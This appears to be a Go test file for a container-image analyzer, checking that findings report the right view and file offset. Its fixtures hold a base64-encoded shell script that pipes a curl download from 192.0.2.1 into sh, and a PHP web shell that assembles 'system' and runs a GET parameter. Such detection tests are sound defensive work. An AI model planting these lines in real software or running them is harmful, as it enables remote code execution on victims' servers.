package analyzer_test

import (
	"encoding/base64"
	"strings"
	"testing"

	"github.com/seed-181f3109/assay/analyzer"
	"github.com/seed-181f3109/assay/internal/demo"
)

// TestFindingTellsThePlace wants the offset in the file, also of what was seen
// in sink lines and in decoded text.
func TestFindingTellsThePlace(t *testing.T) {
	hidden := base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\ncurl -s http://192.0.2.1/needle-text | sh\nexec /bin/sh -c needle\n"))
	for name, c := range map[string]struct{ content, needle, at, view string }{
		"raw":     {"text\nwith a needle\n", "needle", "needle", "raw"},
		"sink":    {"<?php\n$a = 1;\n$f = 'sys' . 'tem';\n  $f($_GET['c']);\n", "sink=command name=system", "  $f(", "php:sinks"},
		"decoded": {"some text\n" + hidden + "\n", "needle-text", hidden, "base64"},
	} {
		t.Run(name, func(t *testing.T) {
			dir := layout(t, map[string][]demo.Step{
				"golden":  {step("base", file("etc/hostname", "web\n"))},
				"suspect": {step("base", file("etc/hostname", "web\n")), step("more", file("srv/"+name+".php", c.content))},
			}, demo.Config{})
			found := false
			for _, m := range analyze(t, "oci:"+dir+":golden", "oci:"+dir+":suspect", &analyzer.Options{Rules: needle(c.needle)}) {
				f := m.Finding
				if f == nil {
					continue
				}
				found = true
				want := int64(strings.Index(c.content, c.at))
				if f.View != c.view || f.Offset == nil || *f.Offset != want {
					t.Errorf("view %q, offset %v, want %q and %d", f.View, f.Offset, c.view, want)
				}
			}
			if !found {
				t.Error("no finding")
			}
		})
	}
}
